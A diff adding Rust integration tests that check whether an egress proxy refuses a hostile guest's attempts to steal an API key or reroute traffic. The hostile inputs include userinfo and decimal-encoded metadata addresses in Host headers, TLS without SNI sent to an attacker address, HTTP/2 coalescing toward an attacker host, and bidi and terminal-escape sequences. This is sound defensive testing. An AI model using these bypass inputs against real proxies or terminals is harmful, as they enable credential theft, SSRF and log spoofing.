@@ -681,6 +681,124 @@ fn a_hostile_guest_cannot_steal_the_key_or_choose_where_bytes_go() {
         "no such record",
     );
 
+    // 14. Other spellings that might make SNI and Host "agree" for the
+    // check but not for the upstream: userinfo in Host, a percent-encoded
+    // dot in an absolute-form target, TLS without SNI (an address as the
+    // URL) carrying the service's Host. All refused.
+    let anth = resolve("api.anthropic.com", 443);
+    let (body, code) = curl(
+        red,
+        &[
+            "--cacert",
+            ca,
+            "--resolve",
+            &anth,
+            "-H",
+            "Host: attacker.test@api.anthropic.com",
+            "https://api.anthropic.com/ui",
+        ],
+    );
+    f.check(code != "200" && last("/ui").is_none(), "14 userinfo in Host", format!("{code} {body}"));
+    let (body, code) = tls_echo("--http1.1", "https://echo%2etest/pct");
+    let pct = rig.upstream.requests().into_iter().any(|r| r["path"].as_str().unwrap_or("").contains("pct"));
+    f.check(code != "200" && !pct, "14 a percent-encoded dot in the target", format!("{code} {body}"));
+    let (body, code) =
+        curl(red, &["-k", "-H", "Host: api.anthropic.com", &format!("https://{}/no-sni", netns::ATTACKER_IP)]);
+    f.check(code == "403", "14 TLS without SNI carrying the service's Host", &body);
+    // `Host: <169.254.169.254 in decimal>` to an allowed address: a name
+    // that does not resolve there, not the metadata address.
+    let (body, code) = curl(red, &["-H", "Host: 2852039166", "http://10.77.0.9/decimal"]);
+    f.check(code == "403", "14 a decimal address in Host", &body);
+    // DNS over TCP to another server is refused like UDP.
+    let asked = rig.upstream.dns_queries().len();
+    let out = red.run(&["dig", "+tcp", "+time=3", "+tries=1", &format!("@{UPSTREAM_IP}"), "echo.test", "A"]);
+    f.check(
+        String::from_utf8_lossy(&out.stdout).contains("status: REFUSED"),
+        "14 DNS over TCP to another server",
+        describe(&out),
+    );
+    f.check(rig.upstream.dns_queries().len() == asked, "14 the TCP query reached the guest's server", asked);
+
+    // 16. A credential in a query string: flows.jsonl drops queries, but
+    // mitmdump logs each flow's URL whole to proxy.log, whose tail `ppp
+    // diagnose` shows (and its github-issue format is made to be pasted).
+    let (body, code) = curl(
+        red,
+        &["--cacert", ca, "--resolve", &resolve("echo.test", 443), "https://echo.test/q?access_token=SEKRETQUERY"],
+    );
+    assert_eq!(code, "200", "{body}");
+    wait_until("the flow in proxy.log", netns::DEADLINE, || {
+        std::fs::read_to_string(d.dirs().proxy_log()).is_ok_and(|l| l.contains("/q?"))
+    });
+    for format in ["table", "github-issue"] {
+        let shown = d.ok(&["diagnose", "-o", format]);
+        f.check(!shown.contains("SEKRETQUERY"), "16 a query string in `ppp diagnose`", format);
+    }
+
+    // 15. HTTP/2 connection coalescing: a connection made for the service
+    // (its first stream gets the key) carries streams for other hosts.
+    let out = red.run(&[
+        netns::venv_python().to_str().unwrap(),
+        netns::flood_script().to_str().unwrap(),
+        "h2",
+        &UPSTREAM_IP.to_string(),
+        ca,
+        "api.anthropic.com",
+        "api.anthropic.com",
+        "echo.test",
+        netns::ATTACKER_NAME,
+    ]);
+    let streams: Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{e}: {}", describe(&out)));
+    assert_eq!(streams[0]["status"], "200", "the connection's own host: {streams}");
+    f.check(!streams[0]["body"].as_str().unwrap().contains(KEY), "15 the key echoed over HTTP/2", &streams[0]);
+    for i in [1, 2] {
+        f.check(streams[i]["status"] == "403", "15 a second :authority on a keyed HTTP/2 connection", &streams[i]);
+    }
+    let coalesced: Vec<_> =
+        rig.upstream.requests().into_iter().filter(|r| r["path"] == "/h2-1" || r["path"] == "/h2-2").collect();
+    f.check(coalesced.is_empty(), "15 a coalesced stream reached upstream", format!("{coalesced:?}"));
+    f.check(
+        !attacker.requests().iter().any(|r| r.to_string().contains(KEY)),
+        "15 the attacker's server saw the key",
+        "h2",
+    );
+
+    // 12. What the user's terminal shows: a Host whose bidi override makes
+    // `policy log` read `google.com` (and an invisible character in the
+    // path) is shown escaped.
+    let (body, code) = curl(red, &["-H", "Host: \u{202e}moc.elgoog", "http://10.77.0.9/\u{200b}"]);
+    f.check(code == "403", "12 a reversed Host to an allowed address", &body);
+    let log = d.ok(&["policy", "log", "red"]);
+    f.check(log.contains("moc.elgoog"), "12 the flow is logged", &log);
+    f.check(
+        !log.chars().any(|c| ppp::output::hides_text(c) && c != '\n'),
+        "12 `policy log` printed a bidi override or invisible character",
+        format!("{log:?}"),
+    );
+
+    // 13. The addon logs a refused Host to proxy.log as the guest sent it;
+    // `ppp diagnose` and `ppp daemon status` show proxy.log's lines on the
+    // user's terminal, so an escape sequence there would retitle it (or
+    // worse).
+    let (body, code) = curl(red, &["-H", "Host: evil\u{1b}]0;pwned\u{7}\u{1b}[2J.test", "http://10.77.0.9/esc"]);
+    f.check(code == "403", "13 an escape sequence in Host", &body);
+    let proxy_log = d.dirs().proxy_log();
+    wait_until("the refusal in proxy.log", netns::DEADLINE, || {
+        std::fs::read_to_string(&proxy_log).is_ok_and(|l| l.contains("denied HTTP evil"))
+    });
+    for args in [&["diagnose", "-o", "table"][..], &["daemon", "status"]] {
+        let out = d.ppp(args).output().unwrap();
+        let shown = String::from_utf8_lossy(&out.stdout);
+        f.check(
+            !shown.chars().any(|c| ppp::output::hides_text(c) && c != '\n'),
+            &format!("13 `ppp {}` printed the guest's escape sequence", args.join(" ")),
+            format!("{shown:?}"),
+        );
+        if args[0] == "diagnose" {
+            f.check(shown.contains("denied HTTP evil"), "13 diagnose shows the refusal", format!("{shown:?}"));
+        }
+    }
+
     // 2 (cont.). Internal addresses need an address rule even under
     // allow-all: the attacker's second address, and the host's own.
     d.ok(&["policy", "init", "allow-all", "--force"]);
